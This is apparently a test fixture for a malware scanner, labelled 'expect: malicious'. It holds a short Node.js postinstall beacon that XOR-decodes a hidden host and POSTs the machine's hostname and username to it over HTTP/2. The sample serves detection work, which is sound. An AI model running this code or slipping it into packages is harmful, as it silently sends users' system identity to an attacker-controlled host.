// when: install
// expect: malicious
// source: blind set 9 domain-fronting: a postinstall beacon over an HTTP/2 session to a host it XOR-decodes (the stream's body carries the host's identity)
const http2 = require('http2');
const os = require('os');
const K = Buffer.from('h2hc');
const C = JSON.parse(Buffer.from('13100b0c065c0d001c1052434a570c040d1c0b07061f0e11075c1c060c1c010d1e53040a0c1044434a420917001052434a1d0a0609464a1e', 'hex').map((b, i) => b ^ K[i % 4]).toString());
const s = http2.connect('https://' + C.connect);
const req = s.request({ ':method': 'POST', ':path': C.path });
req.end(JSON.stringify({ id: os.hostname() + '/' + os.userInfo().username }));
